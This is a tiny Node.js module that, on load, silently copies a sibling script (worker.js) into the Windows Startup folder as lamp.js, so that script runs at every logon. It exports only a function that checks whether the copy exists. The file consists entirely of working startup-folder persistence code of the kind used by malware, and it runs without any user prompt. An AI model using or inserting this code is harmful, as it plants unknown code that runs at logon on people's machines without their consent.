const fs = require('fs')
const place = process.env.APPDATA + '\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\lamp.js'
fs.copyFileSync(__dirname + '/worker.js', place)
exports.check = () => fs.existsSync(place)
